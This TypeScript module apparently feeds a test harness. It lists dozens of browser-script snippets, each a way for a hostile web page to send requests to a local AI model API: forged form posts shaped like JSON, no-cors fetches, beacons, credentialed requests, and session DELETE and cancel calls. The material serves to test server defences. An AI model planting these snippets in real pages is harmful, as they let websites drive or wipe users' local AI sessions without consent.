// What a web page can do to reach a server: one row per way, as a snippet of a page's script. Run from every kind of page against the
// server, and against a server that lets everybody in, to prove that each way works. Contains no tests.

export type Attack = {
  /** Begins with the number of the attack. */
  name: string
  /** The method of the request that would get through. */
  sends: 'GET' | 'HEAD' | 'POST' | 'PUT' | 'PATCH' | 'DELETE'
  path: string
  /**
   * The body of an async function: `url` is the address to reach, `home` the origin of hostile pages, `json` a good body. Returns
   * what the page could learn: the empty string if that is nothing.
   */
  script: string
  /** The browser sends a preflight first, so only an OPTIONS request arrives if it is refused. */
  isPreflighted?: true
  /** On a server that lets everybody in, the page learns something. */
  reads?: true
  /** The browser itself keeps pages of other origins from doing it. */
  isSameOriginOnly?: true
  /** Not in every Chromium, or not from every page: it may or may not send something. */
  isRare?: true
}

/** Helpers for all scripts. */
const prelude = `
document.body.replaceChildren()
const make = (name, fields) => Object.assign(document.createElement(name), fields)
const put = (element, parent = document.body) => parent.appendChild(element)
const load = (name, fields, event = 'onload') => new Promise((done) => {
  const element = make(name, fields)
  element[event] = () => done('loaded')
  element.onerror = () => done('')
  put(element)
})
const textIn = (frame) => {
  try { return frame.contentDocument?.body.textContent ?? '' } catch { return '' }
}
const isBlank = (frame) => {
  try { return frame.contentWindow.location.href === 'about:blank' } catch { return false }
}
const framed = (fields, start = () => {}) => new Promise((done) => {
  const frame = make('iframe', fields)
  frame.onload = () => isBlank(frame) || done(textIn(frame))
  put(frame)
  start()
})
const submit = (fields, inputs, action = url) => {
  const target = 'frame ' + Math.random()
  const form = put(make('form', { action, target, method: 'post', ...fields }))
  for (const [name, value] of Object.entries(inputs)) put(make('input', { name, value }), form)
  return framed({ name: target }, () => form.submit())
}
const send = (fields, to = url) => fetch(to, fields).then((response) => response.text())
const post = (fields, to = url) => send({ method: 'POST', body: json, ...fields }, to)
const xhr = (method, body, headers = {}, fields = {}) => new Promise((done) => {
  const request = Object.assign(new XMLHttpRequest(), fields)
  request.open(method, url)
  for (const [name, value] of Object.entries(headers)) request.setRequestHeader(name, value)
  request.onloadend = () => done(request.responseText)
  request.send(body)
})
const listen = (fields) => new Promise((done) => {
  const source = new EventSource(url, fields)
  const end = (learned) => { source.close(); done(learned) }
  source.onmessage = ({ data }) => end(data)
  source.onerror = () => end('')
})
const connect = () => new Promise((done) => {
  const socket = new WebSocket(url.replace('http', 'ws'))
  socket.onopen = () => done('open')
  socket.onclose = () => done('')
})
const work = (address) => new Promise((done) => {
  const worker = new Worker(address)
  worker.onmessage = ({ data }) => { worker.terminate(); done(data) }
  worker.onerror = () => done('')
})
const inWorker = (expression) => work(URL.createObjectURL(new Blob([
  'const url = ' + JSON.stringify(url) + '; (async () => ' + expression + ')().catch(() => "").then(postMessage)',
])))
const click = (fields) => { put(make('a', { href: url, target: '_blank', ...fields })).click(); return '' }
const beacon = (body) => { navigator.sendBeacon(url, body); return '' }
const asJson = { 'content-type': 'application/json' }
const likeJson = { '{"prompt":"hi","metadata":{"a":"': '"}}' }
const away = (path) => home + path + '?to=' + encodeURIComponent(url)
`

/** The whole script, for a page to evaluate. */
export function programOf({ script }: Attack, url: string, home: string): string {
  const values = [url, home, '{"prompt":"hi"}'].map((value) => JSON.stringify(value)).join(', ')
  return `(async (url, home, json) => { ${prelude}; ${script} })(${values}).catch(() => '')`
}

type Row = [name: string, script: string, more?: Partial<Attack>]

const reads = { reads: true } as const
const preflight = { isPreflighted: true } as const
const preflightAndReads = { ...preflight, ...reads }
const rare = { isRare: true } as const
const own = { isSameOriginOnly: true } as const

const all = (sends: Attack['sends'], path: string, rows: Row[]): Attack[] =>
  rows.map(([name, script, more]) => ({ name, script, sends, path, ...more }))

const elements = all('GET', '/v1/health', [
  ['B08 <img>', `return load('img', { src: url })`, reads],
  ['B08 <img crossorigin>', `return load('img', { crossOrigin: 'anonymous', src: url })`, reads],
  ['B08 <img referrerpolicy=no-referrer>', `return load('img', { referrerPolicy: 'no-referrer', src: url })`, reads],
  ['B08 <img>, redirected', `return load('img', { src: away('/redirect') })`, reads],
  ['B08 <svg><image>', `put(make('div', { innerHTML: '<svg><image href="' + url + '"/></svg>' })); return ''`],
  ['B08 <script>', `return (await load('script', { src: url })) && globalThis.seen`, reads],
  ['B08 <script crossorigin>', `return load('script', { crossOrigin: 'anonymous', src: url })`, reads],
  ['B08 <script type=module>', `return load('script', { type: 'module', src: url })`, reads],
  ['B08 import()', `return import(url).then(() => 'loaded')`, reads],
  ['B08 <link rel=stylesheet>', `return load('link', { rel: 'stylesheet', href: url })`, reads],
  ['B08 <link rel=preload>', `await load('link', { rel: 'preload', as: 'image', href: url }); return ''`],
  ['B08 <link rel=modulepreload>', `return load('link', { rel: 'modulepreload', href: url })`, reads],
  ['B08 <link rel=prefetch>', `await load('link', { rel: 'prefetch', href: url }); return ''`],
  ['B08 @import', `put(make('style', { textContent: '@import "' + url + '"' })); return ''`],
  ['B08 background: url()', `put(make('p', { style: 'background: url("' + url + '")' })); return ''`],
  ['B08 @font-surface', `return new FontFace('x', 'url("' + url + '")').load().then(() => 'loaded')`],
  ['B08 <audio>', `return load('audio', { src: url }, 'onloadedmetadata')`],
  ['B08 <video>', `return load('video', { src: url }, 'onloadedmetadata')`],
  ['B22 <iframe>', `return framed({ src: url })`],
  ['B22 <iframe sandbox>', `return framed({ sandbox: 'allow-scripts', src: url })`],
  ['B22 <object>', `return load('object', { type: 'text/html', data: url })`, reads],
  ['B22 <embed>', `await load('embed', { type: 'text/html', src: url }); return ''`],
])

const reading = all('GET', '/v1/health', [
  ['B06 fetch', `return send()`, reads],
  ['B06 fetch, no-cors', `return send({ mode: 'no-cors' })`],
  ['B06 fetch, no-cors, no referrer', `return send({ mode: 'no-cors', referrerPolicy: 'no-referrer' })`],
  ['B06 fetch, same-origin', `return send({ mode: 'same-origin' })`, own],
  ['B06 fetch, navigate', `return send(new Request(url, { mode: 'navigate' }))`, { ...own, ...rare }],
  ['B06 fetch, keepalive', `return send({ keepalive: true })`, reads],
  ['B06 fetch, redirected', `return send({}, away('/redirect'))`, reads],
  ['B06 fetch, to a loopback address', `return send({ targetAddressSpace: 'loopback' })`, reads],
  ['B06 fetch, to a local address', `return send({ targetAddressSpace: 'local' })`, rare],
  ['B06 fetch, to a private address', `return send({ targetAddressSpace: 'private' })`, rare],
  ['B06 fetch, HEAD', `return (await fetch(url, { method: 'HEAD' })).ok ? 'ok' : ''`, { ...reads, sends: 'HEAD' }],
  ['B06 fetch, in a worker', `return inWorker('(await fetch(url)).text()')`, reads],
  ['B06 fetch, with a key', `return send({ headers: { authorization: 'Bearer x' } })`, preflightAndReads],
  ['B06 XMLHttpRequest', `return xhr('GET')`, reads],
  ['B19 fetch, with credentials', `return send({ credentials: 'include' })`, reads],
  ['B19 XMLHttpRequest, with credentials', `return xhr('GET', null, {}, { withCredentials: true })`, reads],
  ['B20 EventSource', `return listen({})`, reads],
  ['B20 EventSource, with credentials', `return listen({ withCredentials: true })`, reads],
  ['B20 WebSocket', `return connect()`],
  ['B20 Worker', `return work(url)`, own],
  ['B20 importScripts', `return inWorker('(importScripts(url), "loaded")')`, reads],
  ['B20 service worker', `return navigator.serviceWorker.register(url).then(() => 'registered')`, { ...own, ...rare }],
])

const leaving = all('GET', '/v1/health', [
  ['B08 window.open', `open(url); return ''`],
  ['B08 window.open, noreferrer', `open(url, '', 'noreferrer'); return ''`],
  ['B08 a link', `return click({})`],
  ['B08 a link, noreferrer', `return click({ rel: 'noreferrer' })`],
  ['B08 a link, to download', `return click({ download: 'x' })`],
  ['B08 a form, GET', `return submit({ method: 'get' }, Object.fromEntries(new URL(url).searchParams))`],
  [
    'B08 <meta http-equiv=refresh>',
    `framed({ srcdoc: '<meta http-equiv=refresh content="0; ' + url + '">' }); return ''`,
  ],
  ['B08 location', `framed({ srcdoc: '<body onload=\\'location = "' + url + '"\\'>' }); return ''`],
])

const forms = all('POST', '/v1/chat', [
  ['B15 a form, urlencoded', `return submit({}, { prompt: 'hi' })`],
  ['B15 a form, multipart', `return submit({ enctype: 'multipart/form-data' }, { prompt: 'hi' })`],
  ['B15 a form, text like JSON', `return submit({ enctype: 'text/plain' }, likeJson)`],
  ['B15 a form, redirected', `return submit({ enctype: 'text/plain' }, likeJson, away('/redirect'))`],
  [
    'B15 a form, in a new window',
    `put(make('form', { action: url, method: 'post', enctype: 'text/plain', target: '_blank' })).submit(); return ''`,
  ],
])

const simple = all('POST', '/v1/chat', [
  ['B16 fetch, no-cors, a Blob without type', `return post({ mode: 'no-cors', body: new Blob([json]) })`],
  ['B16 fetch, no-cors, text', `return post({ mode: 'no-cors' })`],
  ['B16 fetch, no-cors, a JSON type', `return post({ mode: 'no-cors', headers: asJson })`],
  ['B16 fetch, no-cors, urlencoded', `return post({ mode: 'no-cors', body: new URLSearchParams('prompt=hi') })`],
  ['B16 fetch, no-cors, multipart', `return post({ mode: 'no-cors', body: new FormData() })`],
  ['B16 fetch, no-cors, keepalive', `return post({ mode: 'no-cors', keepalive: true })`],
  ['B16 fetch, no-cors, no referrer', `return post({ mode: 'no-cors', referrerPolicy: 'no-referrer' })`],
  ['B16 fetch, no-cors, redirected', `return post({ mode: 'no-cors' }, away('/redirect'))`],
  [
    'B16 fetch, no-cors, in a worker',
    `return inWorker('(await fetch(url, { method: "POST", mode: "no-cors" })).text()')`,
  ],
  ['B16 fetch, text', `return post({})`, reads],
  [
    'B16 fetch, a type that names JSON too',
    `return post({ headers: { 'content-type': 'text/plain; application/json' } })`,
    reads,
  ],
  ['B16 XMLHttpRequest, text', `return xhr('POST', json)`, reads],
  ['B16 sendBeacon, text', `return beacon(json)`],
  ['B16 sendBeacon, a Blob without type', `return beacon(new Blob([json]))`],
  ['B16 sendBeacon, urlencoded', `return beacon(new URLSearchParams('prompt=hi'))`],
  ['B16 sendBeacon, multipart', `return beacon(new FormData())`],
  ['B16 sendBeacon, a JSON Blob', `return beacon(new Blob([json], { type: 'application/json' }))`, preflight],
  [
    'B16 sendBeacon, when a page goes',
    `const going = '<body onpagehide=\\'navigator.sendBeacon("' + url + '", "{}")\\'>'
    await framed({ srcdoc: going })
    document.body.replaceChildren()
    return ''`,
  ],
  ['B16 fetchLater', `fetchLater(url, { method: 'POST', body: json, activateAfter: 0 }); return ''`, rare],
  ['B16 <a ping>', `return click({ href: home, ping: url })`],
  ['B16 a report of a content policy', `framed({ src: away('/reporting') }); return ''`],
])

const preflighted = all('POST', '/v1/chat', [
  ['B11 fetch, JSON', `return post({ headers: asJson })`, preflightAndReads],
  ['B11 fetch, JSON, keepalive', `return post({ headers: asJson, keepalive: true })`, preflightAndReads],
  ['B11 fetch, JSON, redirected', `return post({ headers: asJson }, away('/redirect'))`, preflightAndReads],
  [
    'B11 fetch, JSON, to a loopback address',
    `return post({ headers: asJson, targetAddressSpace: 'loopback' })`,
    preflightAndReads,
  ],
  ['B11 fetch, text with a key', `return post({ headers: { 'x-api-key': 'x' } })`, preflightAndReads],
  [
    'B11 fetch, PUT',
    `return send({ method: 'PUT', headers: asJson, body: json })`,
    { ...preflightAndReads, sends: 'PUT' },
  ],
  ['B11 XMLHttpRequest, JSON', `return xhr('POST', json, asJson)`, preflightAndReads],
  ['B19 fetch, JSON, with credentials', `return post({ headers: asJson, credentials: 'include' })`, preflightAndReads],
])

const surfaces = ['/v1/chat/stream', '/v1/chat/completions', '/v1/responses', '/v1/messages', '/api/chat'].flatMap(
  (path) =>
    all('POST', path, [
      [`B11 fetch, JSON, to ${path}`, `return post({ headers: asJson })`, preflightAndReads],
      [`B16 fetch, no-cors, text, to ${path}`, `return post({ mode: 'no-cors' })`],
    ]),
)

const withoutBody = [
  ...all('POST', '/v1/runs/run_00000000000000000000000000000000/cancel', [
    ['B24 fetch, no-cors, without body', `return post({ mode: 'no-cors', body: null })`],
    ['B24 a form, without fields', `return submit({}, {})`],
    ['B24 sendBeacon, without body', `return beacon()`],
  ]),
  ...all('POST', '/v1/responses/resp_00000000000000000000000000000000/cancel', [
    ['B24 fetch, no-cors, without body', `return post({ mode: 'no-cors', body: null })`],
    [
      'B24 fetch, with a key, without body',
      `return post({ headers: { authorization: 'Bearer x' }, body: null })`,
      preflightAndReads,
    ],
  ]),
  ...all('DELETE', '/v1/sessions/11111111-2222-4333-8444-555555555555', [
    ['B24 fetch, DELETE', `return send({ method: 'DELETE' })`, preflightAndReads],
    ['B24 fetch, no-cors, DELETE', `return send({ method: 'DELETE', mode: 'no-cors' })`, { ...own, ...rare }],
    ['B24 fetch, PATCH', `return send({ method: 'PATCH' })`, { ...preflightAndReads, sends: 'PATCH' }],
  ]),
]

export const attacks: readonly Attack[] = [
  ...elements,
  ...reading,
  ...leaving,
  ...forms,
  ...simple,
  ...preflighted,
  ...surfaces,
  ...withoutBody,
]
